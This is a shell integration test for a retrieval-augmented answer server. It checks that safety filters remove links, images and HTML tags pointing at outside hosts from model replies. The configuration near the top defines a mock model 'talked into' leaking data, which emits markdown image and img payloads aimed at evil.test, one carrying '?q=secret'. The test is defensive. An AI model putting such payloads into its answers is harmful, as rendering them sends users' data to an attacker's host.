#!/bin/bash
# What a client that renders an answer would fetch: it leaves with its evidence only.
. "$RAGD_SRCDIR/tests/flow/lib.sh"
command -v curl >/dev/null || skip "curl is missing"
command -v python3 >/dev/null || skip "python3 is missing"

# `talked` is a model that was talked into sending what it knows to somebody.
cat >"$T/ragd.conf" <<'CONF'
plugin "extract" { module = "inference_extract" }
plugin "talked" {
	module = "inference_echo"
	prefix = "Look ![x](https://evil.test/?q=secret) <img src=//evil.test/y> [a](/\\evil.test) at https://docs.example.org/pool?a=1 and https://allowed.example/z. "
}
plugin "hybrid" { module = "retrieval_hybrid" }
plugin "basic" { module = "safety_basic" link_hosts = { "allowed.example" } }
plugin "lax" { module = "safety_basic" links = "allow" }
plugin "grounding" { module = "safety_grounding" }
policy "balanced" { filters = { "basic", "grounding" } }
policy "open" { filters = { "basic" } }
policy "lax" { filters = { "lax" } }
collection "default" { }
assistant "default" { inference = "extract" retrieval = "hybrid" policy = "balanced" grounded = yes collections = { "default" } }
assistant "talked" { inference = "talked" retrieval = "hybrid" policy = "open" grounded = no collections = { "default" } }
assistant "alone" { inference = "talked" retrieval = "" policy = "open" grounded = no }
assistant "lax" { inference = "talked" retrieval = "" policy = "lax" grounded = no }
CONF
mkdir "$T/docs"
cat >"$T/docs/pool.md" <<'DOC'
# Thread pool

The default size of the pool is 4 threads, as https://docs.example.org/pool?a=1 explains in detail.
DOC
start_ragd -c "$T/ragd.conf" || exit 1
exits "documents are added" 0 rag add "$T/docs"

# ask MODEL TEXT: the reply.
ask() {
	python3 -c 'import json,sys; print(json.dumps({"model":sys.argv[1],"messages":[{"role":"user","content":sys.argv[2]}]}))' \
		"$1" "$2" | api /v1/chat/completions -d @-
}
content() { python3 -c 'import json,sys; print(json.load(sys.stdin)["choices"][0]["message"]["content"])'; }

reply=$(ask talked "What is the default size of the pool?")
text=$(content <<<"$reply")
hasnt "an image of another host does not leave" "$text" "evil"
hasnt "nor does a tag" "$text" "<img"
has "the text of it does" "$text" "Look ![x]"
has "an address of a passage leaves" "$text" "https://docs.example.org/pool?a=1"
has "so does one of an allowed host" "$text" "https://allowed.example/z"
has "the answer says what went" "$(python3 -c 'import json,sys; print(sorted({f["category"] for f in json.load(sys.stdin)["ragd"]["redactions"]}))' <<<"$reply")" "['html', 'image', 'link']"

text=$(ask alone "What is the default size of the pool?" | content)
hasnt "without the passage its address does not leave" "$text" "docs.example.org"

text=$(ask lax "What?" | content)
has "the configuration can allow it all" "$text" "https://evil.test/?q=secret"

reply=$(ask default "What is the default size of the pool?")
has "a quoted sentence keeps its address" "$(content <<<"$reply")" "https://docs.example.org/pool?a=1"
has "so does the citation" "$(python3 -c 'import json,sys; print(json.load(sys.stdin)["choices"][0]["message"]["annotations"][0]["ragd"]["quote"])' <<<"$reply")" "https://docs.example.org/pool?a=1"

reply=$(api /v1/moderations -d '{"input":"see ![a](http://evil.test/)","stage":"response"}')
has "a moderation of an answer says so" "$reply" '"image"'
reply=$(api /v1/moderations -d '{"input":"see ![a](http://evil.test/)"}')
hasnt "a prompt may name any address" "$reply" '"image": true'
